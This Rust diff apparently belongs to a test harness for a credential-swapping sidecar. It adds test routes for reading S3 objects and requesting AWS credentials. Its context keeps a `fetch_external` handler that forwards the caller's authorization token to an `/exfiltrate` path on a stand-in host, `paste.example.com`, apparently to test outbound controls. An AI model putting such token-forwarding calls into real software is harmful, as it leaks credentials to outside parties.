@@ -10,6 +10,13 @@ use axum::http::{HeaderMap, StatusCode};
 use axum::routing::get;
 use tokio_util::sync::CancellationToken;
 
+use super::ministack::BUCKET;
+
+/// The S3 endpoint the agent calls (Envoy's `aws_s3` virtual host).
+pub const S3_HOST: &str = "s3.us-east-1.amazonaws.com";
+/// The host of the sidecar's credential vending route.
+pub const CREDENTIALS_HOST: &str = "credentials.actbridge.local";
+
 /// What the document service saw on its last request.
 #[derive(Debug, Clone, Default)]
 pub struct Received {
@@ -78,7 +85,9 @@ struct AgentState {
 
 /// Serves the agent app until `stop`. `GET /summarize/{doc}` fetches the document from
 /// `document-service` through Envoy's outbound listener on `outbound_port`, sending the
-/// token the agent was called with (actbridge swaps it on the way out).
+/// token the agent was called with (actbridge swaps it on the way out); `GET /s3/{key}`
+/// reads an S3 object the same way, and `GET /aws-credentials` asks the sidecar for
+/// AWS credentials.
 pub async fn agent(
     listener: tokio::net::TcpListener,
     outbound_port: u16,
@@ -96,6 +105,8 @@ pub async fn agent(
     let app = Router::new()
         .route("/summarize/{doc}", get(summarize))
         .route("/fetch-external", get(fetch_external))
+        .route("/s3/{*key}", get(read_s3))
+        .route("/aws-credentials", get(aws_credentials))
         .with_state(state);
     let _ = axum::serve(listener, app)
         .with_graceful_shutdown(async move { stop.cancelled().await })
@@ -146,6 +157,37 @@ async fn fetch_external(State(s): State<AgentState>, headers: HeaderMap) -> (Sta
         .http
         .get(format!("http://127.0.0.1:{}/exfiltrate", s.outbound))
         .header("host", "paste.example.com");
+    if let Some(t) = headers.get("authorization").and_then(|v| v.to_str().ok()) {
+        req = req.header("authorization", t);
+    }
+    relay(req).await
+}
+
+/// The agent reads an S3 object: a plain, unsigned request with the token it holds;
+/// actbridge signs it with a session scoped to the grant.
+async fn read_s3(
+    State(s): State<AgentState>,
+    Path(key): Path<String>,
+    headers: HeaderMap,
+) -> (StatusCode, String) {
+    let mut req = s
+        .http
+        .get(format!("http://127.0.0.1:{}/{BUCKET}/{key}", s.outbound))
+        .header("host", S3_HOST);
+    if let Some(t) = headers.get("authorization").and_then(|v| v.to_str().ok()) {
+        req = req.header("authorization", t);
+    }
+    relay(req).await
+}
+
+/// The agent asks its sidecar for AWS credentials (`POST /credentials`).
+async fn aws_credentials(State(s): State<AgentState>, headers: HeaderMap) -> (StatusCode, String) {
+    let mut req = s
+        .http
+        .post(format!("http://127.0.0.1:{}/credentials", s.outbound))
+        .header("host", CREDENTIALS_HOST)
+        .header("content-type", "application/json")
+        .body(r#"{"target_service":"s3","action":"read"}"#);
     if let Some(t) = headers.get("authorization").and_then(|v| v.to_str().ok()) {
         req = req.header("authorization", t);
     }
